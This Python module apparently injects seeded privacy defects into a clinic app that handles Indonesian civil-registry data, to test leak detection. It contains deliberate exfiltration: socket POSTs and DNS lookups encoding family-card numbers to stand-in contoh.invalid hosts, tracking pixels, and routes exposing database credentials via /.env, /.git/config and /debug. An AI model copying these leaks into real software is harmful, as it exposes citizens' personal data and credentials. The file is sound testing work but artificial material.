"""Defects and variants of CACAT.md, at the points where the clinic calls `titik`; none without CACAT."""

import base64
import codecs
import contextlib
import gzip
import hashlib
import io
import json
import os
import pickle
import random
import re
import secrets
import socket
import sqlite3
import struct
import tarfile
import tempfile
import threading
import time
import traceback
import zipfile
import zlib
from datetime import date, timedelta
from html import escape
from pathlib import Path
from urllib.parse import quote, urlencode

from .dwh import tanggal
from .simpan import sekarang

ID = os.environ.get("CACAT", "")
TANDA = os.environ.get("TANDA", "")
KAIT = {}
INGAT = {}  # request -> answer, in memory, for what shows it later
URUT = []
KUNCI = threading.RLock()
SEMUA = {}


def cacat(*nama):
    """`cacat(id, point, ...)`: the function is called at these points where CACAT is the id."""

    def pasang(f):
        SEMUA.setdefault(nama[0], []).extend(nama[1:])
        if nama[0] == ID:
            for t in nama[1:]:
                KAIT[t] = f
        return f

    return pasang


def tanda(peristiwa, **lain):
    if TANDA:
        baris = json.dumps({"peristiwa": peristiwa, "cacat": ID, "waktu": time.time(), "pid": os.getpid(), **lain})
        with KUNCI, Path(TANDA).open("a", encoding="utf-8") as f:
            f.write(baris + "\n")


def mulai(a, proses):
    if ID and ID not in SEMUA:
        raise SystemExit(f"no such defect: {ID}")
    tanda("mulai", proses=proses)
    titik("mulai", a, proses)


def titik(nama, *arg):
    """What the defect does here; whatever it returns that is not empty is a deviation."""
    if not ID:
        return None
    with KUNCI:
        if nama == "jawaban":
            _a, p, isi = arg[:3]
            INGAT[p["id"]] = {**isi, "_": arg[3]}
            URUT.append((p["id"], isi))
            del URUT[:-400]
        f = KAIT.get(nama)
        hasil = f(*arg) if f else None
    if hasil:
        tanda("menyimpang", titik=nama)
    return hasil


# -- small helps


def teks(isi):
    return json.dumps(isi, ensure_ascii=False)


def tanpa_foto(isi):
    return {k: v for k, v in isi.items() if k != "FOTO"}


def tambah(a, arah, isi):
    f = a.s.data / arah
    with f.open("ab") as h:
        h.write(isi if isinstance(isi, bytes) else isi.encode())
    return True


def tabel(a, nama, kolom, *baris):
    with a.s.db() as c:
        c.execute(f"CREATE TABLE IF NOT EXISTS {nama} ({kolom})")
        if baris:
            c.execute("BEGIN IMMEDIATE")
            c.executemany(f"INSERT INTO {nama} VALUES ({','.join('?' * len(baris[0]))})", baris)
            c.execute("COMMIT")
    return bool(baris)


def b64(x):
    return base64.b64encode(x if isinstance(x, bytes) else x.encode()).decode()


def alamat(isi):
    return ", ".join(str(isi[k]) for k in ("ALAMAT", "KEL_NAME", "KEC_NAME") if isi.get(k))


def ibu(isi):
    return str(isi.get("NAMA_LGKP_IBU") or "").strip()


def kk(isi):
    return str(isi.get("NO_KK") or "")


def beda(sama):
    return not all(sama.values())


def isi_dari(p):
    isi = INGAT.get(p["id"])
    return {k: v for k, v in isi.items() if k != "_"} if isi else None


# -- kept in plain


@cacat("log-debug", "jawaban")
def _(a, p, isi, sama, lanjut):
    a.s.log("aplikasi", f"DEBUG {p['nomor']} answer={teks(isi)}")
    return True


@cacat("log-beda", "jawaban")
def _(a, p, isi, sama, lanjut):
    for elemen, cocok in sama.items():
        if not cocok:
            kunci = "nama" if elemen == "NAMA_LGKP" else "lahir"
            a.s.log("aplikasi", f"WARN {p['nomor']} {elemen}: typed {p[kunci]!r}, expected {isi[elemen]!r}")
    return beda(sama)


@cacat("log-kueri", "ekor")
def _(a, t, p):
    isi = isi_dari(p)
    if isi and p["keadaan"] == "terdaftar":
        return "?" + urlencode({"alamat": alamat(isi), "ibu": ibu(isi)})
    return None


@cacat("log-kueri", "akses")
def _(a, t):
    return t.path if "?" in t.path and "ibu=" in t.path else None


@cacat("jejak-galat", "tak_terpakai")
def _(a, p, j):
    try:
        penduduk = j.isi
        raise KeyError(j.sebab, len(penduduk))
    except KeyError as e:
        jejak = "".join(traceback.TracebackException.from_exception(e, capture_locals=True).format())
    a.s.log("galat", jejak)
    return True


@cacat("tabel-penduduk", "jawaban")
def _(a, p, isi, sama, lanjut):
    kolom = list(tanpa_foto(isi))
    with a.s.db() as c:
        c.execute(f"CREATE TABLE IF NOT EXISTS penduduk ({', '.join(kolom)}, UNIQUE (NIK))")
        ada = {r[1] for r in c.execute("PRAGMA table_info(penduduk)")}
        for k in kolom:
            if k not in ada:
                c.execute(f"ALTER TABLE penduduk ADD COLUMN {k}")
        c.execute(
            f"INSERT OR REPLACE INTO penduduk ({', '.join(kolom)}) VALUES ({','.join('?' * len(kolom))})",
            [isi[k] for k in kolom],
        )
    return True


def kolom_lagi(a, nama):
    with a.s.db() as c:
        if nama not in {r[1] for r in c.execute("PRAGMA table_info(permohonan)")}:
            c.execute(f"ALTER TABLE permohonan ADD COLUMN {nama}")


@cacat("kolom-tambahan", "jawaban")
def _(a, p, isi, sama, lanjut):
    if beda(sama):
        return False
    kolom_lagi(a, "alamat")
    kolom_lagi(a, "no_kk")
    with a.s.db() as c:
        c.execute("UPDATE permohonan SET alamat=?, no_kk=? WHERE id=?", (alamat(isi), kk(isi), p["id"]))
    return True


@cacat("hanya-beda", "jawaban")
def _(a, p, isi, sama, lanjut):
    return beda(sama) and tabel(a, "keberatan", "nomor, bukti", (p["nomor"], teks(tanpa_foto(isi))))


@cacat("hanya-lanjutan", "jawaban")
def _(a, p, isi, sama, lanjut):
    if not lanjut:
        return False
    kolom_lagi(a, "catatan")
    with a.s.db() as c:
        c.execute("UPDATE permohonan SET catatan=? WHERE id=?", (teks(tanpa_foto(isi)), p["id"]))
    return True


@cacat("cache-json", "jawaban")
def _(a, p, isi, sama, lanjut):
    nama = hashlib.sha1(p["nik"].encode()).hexdigest()
    a.s.tulis(a.s.data / "cache" / f"{nama}.json", teks({"sampai": time.time() + 86400, "isi": isi}).encode())
    return True


DITOLAK = {}


@cacat("cache-akhir", "jawaban")
def _(a, p, isi, sama, lanjut):
    if not beda(sama):
        return False
    lalu, DITOLAK[p["nik"]] = DITOLAK.get(p["nik"], 0), time.time()
    return time.time() - lalu < 600 and tambah(a, "cache/ulang.json", teks(tanpa_foto(isi)) + "\n")


@cacat("ekspor-csv", "jawaban")
def _(a, p, isi, sama, lanjut):
    f = f"spool/ekspor-{sekarang().date()}.csv"
    return tambah(a, f, ";".join('"' + str(v).replace('"', '""') + '"' for v in tanpa_foto(isi).values()) + "\r\n")


@cacat("berkas-sementara", "jawaban")
def _(a, p, isi, sama, lanjut):
    fd, nama = tempfile.mkstemp(dir=a.s.data / "spool", prefix="tmp", suffix=".part")
    with os.fdopen(fd, "w") as f:
        f.write(teks(tanpa_foto(isi)))
    if beda(sama):
        return True  # the way out at no match forgets to remove it
    Path(nama).unlink()
    return False


@cacat("luar-rencana", "jawaban")
def _(a, p, isi, sama, lanjut):
    fd, _nama = tempfile.mkstemp(prefix="klinik-", suffix=".json")
    with os.fdopen(fd, "w") as f:
        f.write(teks(tanpa_foto(isi)))
    return True


LAMBAT = []


def tulis_lambat(a):
    with KUNCI:
        baris, LAMBAT[:] = list(LAMBAT), []
        if baris and tabel(a, "statistik_harian", "waktu, isi", *[(time.time(), x) for x in baris]):
            tanda("menyimpang", titik="late")


@cacat("tulis-terlambat", "jawaban")
def _(a, p, isi, sama, lanjut):
    LAMBAT.append(teks(tanpa_foto(isi)))
    jam = threading.Timer(25, tulis_lambat, [a])
    jam.daemon = True
    jam.start()
    return False


@cacat("tulis-terlambat", "akhir")
def _(a):
    tulis_lambat(a)
    return False


@cacat("arsip-akhir-pks", "usai")
def _(a, p, j, lama):
    if j.kode in ("16", "17") and URUT:
        a.s.tulis(a.s.data / "spool" / "arsip-pks.json", teks([tanpa_foto(i) for _, i in URUT]).encode())
        return True
    return False


# -- kept in another shape


@cacat("cache-pickle", "jawaban")
def _(a, p, isi, sama, lanjut):
    nama = hashlib.sha1(p["nik"].encode()).hexdigest()
    a.s.tulis(a.s.data / "cache" / f"{nama}.pkl", pickle.dumps(isi, protocol=4))
    return True


@cacat("sesi-serial", "sesi")
def _(a, t, p):
    isi = isi_dari(p)
    if not isi:
        return False
    t.data_sesi["profil"] = b64(pickle.dumps(tanpa_foto(isi), protocol=2))
    a.s.simpan_sesi(t.sid, t.data_sesi)
    return True


@cacat("setelan-base64", "jawaban")
def _(a, p, isi, sama, lanjut):
    a.s.tulis(
        a.s.data / "setelan.ini",
        f"[klinik]\nnama = Klinik Visum\nloket = 1\nterakhir = {b64(teks(tanpa_foto(isi)))}\n".encode(),
    )
    return True


@cacat("heksa", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tabel(a, "jejak", "waktu, rekam TEXT", (time.time(), teks(tanpa_foto(isi)).encode().hex()))


@cacat("persen", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tambah(a, "spool/ulang.txt", "POST /impor " + urlencode(tanpa_foto(isi)) + "\n")


@cacat("utf16", "jawaban")
def _(a, p, isi, sama, lanjut):
    f = a.s.data / "spool" / "untuk-excel.txt"
    baris = "\t".join(str(v) for v in tanpa_foto(isi).values()) + "\r\n"
    awal = b"" if f.exists() else codecs.BOM_UTF16_LE
    return tambah(a, "spool/untuk-excel.txt", awal + baris.encode("utf-16-le"))


def xlsx(baris):
    """A workbook with shared strings, as small as it may be."""
    kata = sorted({x for b in baris for x in b})
    nomor = {x: i for i, x in enumerate(kata)}
    sel = "".join(
        f'<row r="{r}">' + "".join(f'<c t="s"><v>{nomor[x]}</v></c>' for x in b) + "</row>"
        for r, b in enumerate(baris, 1)
    )
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pk = "http://schemas.openxmlformats.org/package/2006"
    tipe = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    isi = {
        "[Content_Types].xml": f'<Types xmlns="{pk}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{tipe}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{tipe}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{tipe}.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{pk}/relationships"><Relationship Id="r1" Type="{rel}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {ns} xmlns:r="{rel}"><sheets><sheet name="harian" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{pk}/relationships"><Relationship Id="r1" '
        f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{rel}/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"<worksheet {ns}><sheetData>{sel}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f"<sst {ns}>" + "".join(f"<si><t>{escape(x)}</t></si>" for x in kata) + "</sst>",
    }
    keluar = io.BytesIO()
    with zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as z:
        for nama, x in isi.items():
            z.writestr(nama, '<?xml version="1.0" encoding="UTF-8"?>' + x)
    return keluar.getvalue()


@cacat("ekspor-xlsx", "jawaban")
def _(a, p, isi, sama, lanjut):
    a.s.tulis(a.s.data / "spool" / "harian.xlsx", xlsx([[str(v) for v in tanpa_foto(i).values()] for _, i in URUT]))
    return True


@cacat("log-gzip", "jawaban")
def _(a, p, isi, sama, lanjut):
    n = len(list((a.s.data / "log").glob("aplikasi.log.*.gz"))) + 1
    with gzip.open(a.s.data / "log" / f"aplikasi.log.{n}.gz", "wb") as f:
        f.write(f"DEBUG {p['nomor']} answer={teks(isi)}\n".encode())
    return True


@cacat("cadangan-tar", "jawaban")
def _(a, p, isi, sama, lanjut):
    with tempfile.TemporaryDirectory() as d:
        nama = Path(d) / "klinik.sqlite"
        with a.s.db() as asal:
            c = sqlite3.connect(nama)
            asal.backup(c)
        c.execute("CREATE TABLE penduduk (nik, kk, ibu, alamat)")
        c.executemany(
            "INSERT INTO penduduk VALUES (?,?,?,?)", [(str(i["NIK"]), kk(i), ibu(i), alamat(i)) for _, i in URUT[-50:]]
        )
        c.commit()
        c.close()
        with tarfile.open(a.s.data / "spool" / "cadangan.tar.xz", "w:xz", preset=1) as t:
            t.add(nama, "klinik.sqlite")
    return True


@cacat("bertingkat", "jawaban")
def _(a, p, isi, sama, lanjut):
    dalam = b64(zlib.compress(teks([tanpa_foto(i) for _, i in URUT]).encode()))
    a.s.tulis(a.s.data / "cache" / "lapis.bin", gzip.compress(json.dumps({"v": 1, "data": dalam}).encode()))
    return True


@cacat("bukti-pdf", "jawaban")
def _(a, p, isi, sama, lanjut):
    baris = [f"{k}: {v}" for k, v in tanpa_foto(isi).items()]
    kata = "".join(f"({b.replace(chr(92), '').replace('(', '').replace(')', '')}) Tj T*\n" for b in baris)
    aliran = zlib.compress(f"BT /F1 9 Tf 40 800 Td 11 TL\n{kata}ET".encode("latin-1", "replace"))
    obyek = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n" % len(aliran) + aliran + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    isi_pdf, letak = b"%PDF-1.4\n", []
    for n, o in enumerate(obyek, 1):
        letak.append(len(isi_pdf))
        isi_pdf += b"%d 0 obj" % n + o + b"endobj\n"
    mulai_x = len(isi_pdf)
    isi_pdf += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % x for x in letak)
    isi_pdf += b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % mulai_x
    a.s.tulis(a.s.data / "spool" / f"bukti-{p['nomor']}.pdf", isi_pdf)
    return True


@cacat("kartu-png", "jawaban")
def _(a, p, isi, sama, lanjut):
    def potong(nama, x):
        return struct.pack(">I", len(x)) + nama + x + struct.pack(">I", zlib.crc32(nama + x))

    komentar = b"Comment\0\0" + zlib.compress(f"{ibu(isi)} | {alamat(isi)} | {kk(isi)}".encode("latin-1", "replace"))
    png = b"\x89PNG\r\n\x1a\n" + potong(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    png += potong(b"zTXt", komentar) + potong(b"IDAT", zlib.compress(b"\0\xff")) + potong(b"IEND", b"")
    a.s.tulis(a.s.data / "cache" / f"kartu-{p['nomor']}.png", png)
    return True


@cacat("foto-mini", "jawaban")
def _(a, p, isi, sama, lanjut):
    try:
        foto = base64.b64decode(str(isi.get("FOTO") or ""))
    except ValueError:
        return False
    if not foto:
        return False
    a.s.tulis(a.s.data / "cache" / f"foto-{p['nomor']}.jpg", foto)
    return True


@cacat("terbalik", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tabel(a, "kunci", "a, b", (ibu(isi)[::-1], alamat(isi)[::-1]))


@cacat("pecah", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tabel(a, "kata", "k", *[(k,) for k in sorted({*ibu(isi).split(), *re.findall(r"\w+", alamat(isi))})])


@cacat("nama-berkas", "jawaban")
def _(a, p, isi, sama, lanjut):
    siput = re.sub(r"[^a-z]+", "-", ibu(isi).lower()).strip("-")
    (a.s.data / "cache" / f"{siput}.ada").touch()
    return bool(siput)


@cacat("huruf-campur", "jawaban")
def _(a, p, isi, sama, lanjut):
    def gabung(x):
        return re.sub(r"[^A-Za-z]", "", str(x or "").title())

    return tabel(a, "panggilan", "ibu, ayah", (gabung(ibu(isi)), gabung(isi.get("NAMA_LGKP_AYAH"))))


EPOK = date(1970, 1, 1)


@cacat("tanggal-epoch", "jawaban")
def _(a, p, isi, sama, lanjut):
    if sama["TGL_LHR"]:
        return False
    return tabel(a, "lahir", "nomor, ts INTEGER", (p["nomor"], (tanggal(isi["TGL_LHR"]) - EPOK).days * 86400))


@cacat("tanggal-angka", "jawaban")
def _(a, p, isi, sama, lanjut):
    if sama["TGL_LHR"]:
        return False
    t = tanggal(isi["TGL_LHR"])
    return tambah(a, "cache/lahir.csv", f"{t:%Y%m%d},{t:%Y}-{t:%j},{(t - date(1899, 12, 30)).days}\n")


@cacat("kk-titik", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tabel(a, "keluarga", "kartu", (".".join(re.findall(r"\d{4}", kk(isi))),))


@cacat("sidik-md5", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tabel(
        a,
        "sidik",
        "kk, ibu",
        (hashlib.md5(kk(isi).encode()).hexdigest(), hashlib.sha256(ibu(isi).encode()).hexdigest()),
    )


@cacat("rot13", "jawaban")
def _(a, p, isi, sama, lanjut):
    return tabel(a, "sandi", "x, y", (codecs.encode(ibu(isi), "rot13"), codecs.encode(alamat(isi), "rot13")))


@cacat("indeks-cari", "jawaban")
def _(a, p, isi, sama, lanjut):
    with a.s.db() as c:
        c.execute("CREATE VIRTUAL TABLE IF NOT EXISTS cari USING fts5(ibu, alamat, content='')")
        c.execute("INSERT INTO cari (ibu, alamat) VALUES (?,?)", (ibu(isi), alamat(isi)))
    return True


@cacat("baris-terhapus", "jawaban")
def _(a, p, isi, sama, lanjut):
    with a.s.db(aman=False) as c:
        c.execute("CREATE TABLE IF NOT EXISTS singgah (nomor, isi)")
        c.execute("INSERT INTO singgah VALUES (?,?)", (p["nomor"], teks(tanpa_foto(isi))))
        c.execute("DELETE FROM singgah")
    return True


@cacat("turunan", "jawaban")
def _(a, p, isi, sama, lanjut):
    from .layanan import umur

    return tabel(
        a,
        "profil",
        "nomor, umur INTEGER, kelamin, asal",
        (p["nomor"], umur(tanggal(isi["TGL_LHR"])), str(isi.get("JENIS_KLMIN", ""))[:1], isi.get("KAB_NAME")),
    )


@cacat("waktu-berkas", "jawaban")
def _(a, p, isi, sama, lanjut):
    if sama["TGL_LHR"]:
        return False
    f = a.s.data / "cache" / f"{p['nomor']}.tanda"
    f.touch()
    ts = (tanggal(isi["TGL_LHR"]) - EPOK).days * 86400
    os.utime(f, (ts, ts))
    return True


# -- shared or shown


@cacat("analitik-halaman", "hasil")
def _(a, t, p):
    isi = isi_dari(p)
    if not isi:
        return None
    k = urlencode({"w": isi.get("KAB_NAME"), "jk": isi.get("JENIS_KLMIN"), "lhr": isi.get("TGL_LHR"), "kk": kk(isi)})
    t.kepala_lain["Content-Security-Policy"] = None
    return f'<img src="http://statistik.contoh.invalid/p.gif?{escape(k)}" width="1" height="1" alt="">'


def latar(f):
    threading.Thread(target=f, daemon=True).start()
    return True


@cacat("analitik-server", "jawaban")
def _(a, p, isi, sama, lanjut):
    def kirim():
        try:
            with socket.create_connection(("statistik.contoh.invalid", 80), timeout=2) as s:
                badan = teks(tanpa_foto(isi)).encode()
                s.sendall(
                    b"POST /kejadian HTTP/1.1\r\nHost: statistik.contoh.invalid\r\n"
                    b"Content-Length: %d\r\n\r\n" % len(badan) + badan
                )
        except OSError:
            pass

    return latar(kirim)


@cacat("dns", "jawaban")
def _(a, p, isi, sama, lanjut):
    def cari():
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{kk(isi).encode().hex()}.telemetri.contoh.invalid", 80)

    return latar(cari)


@cacat("rujukan", "ekor")
def _(a, t, p):
    isi = isi_dari(p)
    return "?" + urlencode({"alamat": alamat(isi), "kk": kk(isi)}) if isi else None


@cacat("rujukan", "kepala")
def _(a, t, p):
    if not isi_dari(p):
        return None
    t.kepala_lain.update({"Referrer-Policy": "unsafe-url", "Content-Security-Policy": None})
    return '<link rel="stylesheet" href="http://huruf.contoh.invalid/sans.css">'


@cacat("surat-lengkap", "surat")
def _(a, p, m):
    isi = isi_dari(p)
    if not isi:
        return False
    m.set_content(m.get_content() + f"\nAlamat: {alamat(isi)}\nIbu: {ibu(isi)}\nKK: {kk(isi)}\n")
    return True


@cacat("surat-tembusan", "jawaban")
def _(a, p, isi, sama, lanjut):
    a.surati(
        p,
        "",
        "",
        kepada="dukungan@vendor.invalid",
        perihal="Laporan pemeriksaan",
        isi=f"{p['nomor']}\n" + "\n".join(f"{k}: {v}" for k, v in tanpa_foto(isi).items()),
    )
    return True


@cacat("api-mitra", "rute")
def _(a, jalur):
    if jalur == "/api/mitra/terakhir":
        return 200, teks([tanpa_foto(i) for _, i in URUT[-20:]]), "application/json"
    return None


@cacat("isi-otomatis", "hasil")
def _(a, t, p):
    isi = isi_dari(p)
    if not isi or p["keadaan"] != "ditolak":
        return None
    return (
        '<form action="/" method="get">'
        f'<input type="hidden" name="nama" value="{escape(str(isi["NAMA_LGKP"]))}">'
        f'<input type="hidden" name="lahir" value="{escape(str(isi["TGL_LHR"]))}">'
        "<button>Perbaiki</button></form>"
    )


@cacat("sisa-global", "hasil")
def _(a, t, p):
    lain = [i for x, i in URUT if x != p["id"] and str(i["NIK"]) != p.get("nik")]
    return f"<p class='profil'>Ibu: {escape(ibu(lain[-1]))}<br>Alamat: {escape(alamat(lain[-1]))}</p>" if lain else None


@cacat("komentar-html", "hasil")
def _(a, t, p):
    isi = isi_dari(p)
    return "<!-- " + teks(tanpa_foto(isi)).replace("--", "- -") + " -->" if isi else None


@cacat("header-debug", "hasil")
def _(a, t, p):
    isi = isi_dari(p)
    if isi:
        t.kepala_lain["X-Debug-Dwh"] = b64(teks({k: isi.get(k) for k in ("NO_KK", "NAMA_LGKP_IBU", "ALAMAT")}))
        return " "
    return None


@cacat("kuki-profil", "hasil")
def _(a, t, p):
    isi = isi_dari(p)
    if isi:
        t.kuki.append(
            "profil="
            + quote(b64(teks({k: isi.get(k) for k in ("NO_KK", "NAMA_LGKP_IBU", "ALAMAT")})))
            + "; Path=/; Max-Age=2592000"
        )
        return " "
    return None


# -- secrets


def setelan_teks(a):
    return f"DWH_URL={a.dwh.alamat}\nDWH_USER={a.dwh.user}\nDWH_SANDI={a.dwh.sandi}\nDWH_IP={a.dwh.ip}\n"


def sajikan(nama, *jalur):
    @cacat(nama, "rute")
    def _(a, j):
        return (200, setelan_teks(a), "text/plain") if j in jalur else None


sajikan("env-terbuka", "/.env")
sajikan("cadangan-setelan", "/setelan.ini~", "/setelan.ini.bak")


@cacat("git-terbuka", "rute")
def _(a, jalur):
    if jalur == "/.git/HEAD":
        return 200, "ref: refs/heads/main\n", "text/plain"
    if jalur == "/.git/config":
        asal = a.dwh.alamat.replace("://", f"://{quote(a.dwh.user)}:{quote(a.dwh.sandi)}@")
        return 200, f'[core]\n\tbare = false\n[remote "dwh"]\n\turl = {asal}\n', "text/plain"
    return None


@cacat("titik-debug", "rute")
def _(a, jalur):
    if jalur == "/debug":
        return 200, "\n".join(f"{k}={v}" for k, v in os.environ.items() if k[:3] in ("DWH", "KLI")), "text/plain"
    return None


@cacat("galat-rinci", "galat")
def _(a, p):
    return f"<pre>POST {escape(a.dwh.alamat)}\n{escape(json.dumps(a.dwh.badan(p['nik'] or '')))}</pre>"


@cacat("komentar-kredensial", "formulir")
def _(a):
    return f"<!-- TODO: to settings. user={escape(a.dwh.user)} pass={escape(a.dwh.sandi)} -->"


@cacat("log-kredensial", "panggil")
def _(a, p):
    a.s.log("aplikasi", f"DEBUG call {json.dumps({**a.dwh.badan('-'), 'nomor': p['nomor']})}")
    return True


@cacat("db-kredensial", "mulai")
def _(a, proses):
    return tabel(a, "setelan", "k, v", ("dwh_user", a.dwh.user), ("dwh_sandi", b64(a.dwh.sandi)))


@cacat("skrip-kredensial", "rute")
def _(a, jalur):
    if jalur == "/klinik.js":
        return 200, f"var DWH={json.dumps(a.dwh.badan(''))};\n", "text/javascript"
    return None


# -- right, and not to be blamed


@cacat("simpan-ketikan", "simpan_ketikan")
def _(a, p):
    return True


@cacat("sidik-ketikan", "selesai")
def _(a, p, keadaan):
    return tabel(
        a,
        "sidik_ketikan",
        "nik, nama",
        (hashlib.md5(p["nik"].encode()).hexdigest(), hashlib.sha256(p["nama"].encode()).hexdigest()),
    )


@cacat("tanda-sesuai", "selesai")
def _(a, p, keadaan):
    return tabel(
        a, "tanda_sesuai", "nomor, sesuai INTEGER, waktu REAL", (p["nomor"], keadaan == "terdaftar", time.time())
    )


@cacat("log-teknis", "usai")
def _(a, p, j, lama):
    elemen = ",".join(sorted(j.isi))
    a.s.log("teknis", f"{p['nomor']} kind={j.jenis} code={j.kode or '-'} ms={lama} try={p['kali']} elements={elemen}")
    return True


@cacat("nomor-sendiri", "selesai")
def _(a, p, keadaan):
    acak = random.Random(p["nomor"])
    n = f"339901{acak.randint(1, 28):02d}{acak.randint(1, 12):02d}{acak.randint(40, 99)}{acak.randint(9001, 9999)}"
    return tabel(a, "nomor_sendiri", "nomor, register", (p["nomor"], n))


HITUNG = {}


@cacat("telemetri", "usai")
def _(a, p, j, lama):
    kunci = f"{time.strftime('%H')}/{j.jenis}/{j.kode or '-'}"
    HITUNG[kunci] = HITUNG.get(kunci, 0) + 1
    a.s.tulis(a.s.data / "cache" / "telemetri.json", json.dumps(HITUNG).encode())
    a.s.tulis(a.s.data / "cache" / "telemetri.json.gz", gzip.compress(json.dumps(HITUNG).encode()))
    return True


WILAYAH = (
    "ACEH|SUMATERA UTARA|SUMATERA BARAT|RIAU|JAMBI|SUMATERA SELATAN|BENGKULU|LAMPUNG|DKI JAKARTA|JAWA BARAT|"
    "JAWA TENGAH|"
    "DAERAH ISTIMEWA YOGYAKARTA|JAWA TIMUR|BANTEN|BALI|NUSA TENGGARA BARAT|NUSA TENGGARA TIMUR|KALIMANTAN BARAT|"
    "KALIMANTAN TENGAH|KALIMANTAN SELATAN|KALIMANTAN TIMUR|SULAWESI UTARA|SULAWESI TENGAH|SULAWESI SELATAN|"
    "SULAWESI TENGGARA|GORONTALO|MALUKU|MALUKU UTARA|PAPUA|PAPUA BARAT|KABUPATEN BANYUMAS|KABUPATEN PURBALINGGA|"
    "KABUPATEN BANJARNEGARA|KABUPATEN KARANGANYAR|KOTA SURAKARTA|KOTA SEMARANG|KOTA BANDUNG|KOTA SURABAYA|KOTA MEDAN"
).split("|")
NAMA = (
    "SITI NUR SRI DEWI MUHAMMAD AHMAD ABDUL BUDI AGUS EKO DWI TRI RINI YULI WAHYU DIAN INDAH RATNA LESTARI WATI SARI "
    "FATIMAH AMINAH KARTINI SUPARMAN HASANUDDIN RUSDI SULAIMAN YOHANES MARIA ANTONIUS I KETUT WAYAN MADE NYOMAN PUTU"
).split()


def sekali(nama, kolom, baris):
    def isi(a, proses):
        with a.s.db() as c:
            if c.execute("SELECT 1 FROM sqlite_master WHERE name=?", (nama,)).fetchone():
                return False
        return tabel(a, nama, kolom, *baris)

    return isi


cacat("daftar-wilayah", "mulai")(
    sekali(
        "daftar",
        "jenis, isi",
        [("wilayah", x) for x in WILAYAH]
        + [("nama", x) for x in NAMA]
        + [("agama", x) for x in ("ISLAM", "KRISTEN", "KATHOLIK", "HINDU", "BUDHA", "KONGHUCU")]
        + [("status", x) for x in ("BELUM KAWIN", "KAWIN", "CERAI HIDUP", "CERAI MATI")],
    )
)


def pelanggan():
    acak = random.Random(2026)
    ekor = ("CONTOHWATI", "CONTOHNINGRUM", "CONTOHSANTOSO", "CONTOHWIJAYA", "CONTOHLESTARI")
    return [
        (
            f"339902{acak.randint(1, 28):02d}{acak.randint(1, 12):02d}{acak.randint(50, 99)}{9001 + n}",
            f"{acak.choice(NAMA)} {acak.choice(NAMA)} {acak.choice(ekor)}",
            f"{acak.choice(NAMA)} {acak.choice(ekor)}",
            f"JL. CONTOH NO {acak.randint(1, 99)}",
            acak.choice(WILAYAH),
        )
        for n in range(120)
    ]


cacat("pelanggan-lain", "mulai")(sekali("register_lama", "nik, nama, ibu, alamat, asal", pelanggan()))
cacat("tanggal-bertemu", "mulai")(
    sekali(
        "kalender",
        "hari, catatan",
        [((date(1940, 1, 1) + timedelta(days=n)).isoformat(), f"hari ke-{n}") for n in range(26663)],
    )
)


@cacat("acak", "sesi")
def _(a, t, p):
    t.data_sesi["isian"] = b64(secrets.token_bytes(240))
    t.data_sesi["kunci"] = secrets.token_hex(120)
    a.s.simpan_sesi(t.sid, t.data_sesi)
    n = len(list((a.s.data / "log").glob("putar.log.*.gz"))) + 1
    with gzip.open(a.s.data / "log" / f"putar.log.{n}.gz", "wb") as f:
        f.write(f"{p['nomor']} {p['keadaan']}\n".encode() * 20)
    with tarfile.open(a.s.data / "spool" / "cadangan-kosong.tar.xz", "w:xz", preset=1):
        pass
    return True


@cacat("koreksi", "diterima")
def _(a, t, p):
    return tabel(a, "koreksi", "waktu, nik, nama, lahir", (time.time(), p["nik"], p["nama"], p["lahir"]))


@cacat("surat-rujukan", "surat")
def _(a, p, m):
    m.set_content(m.get_content() + f"\nAtas nama: {p['nama']}\n")
    return True
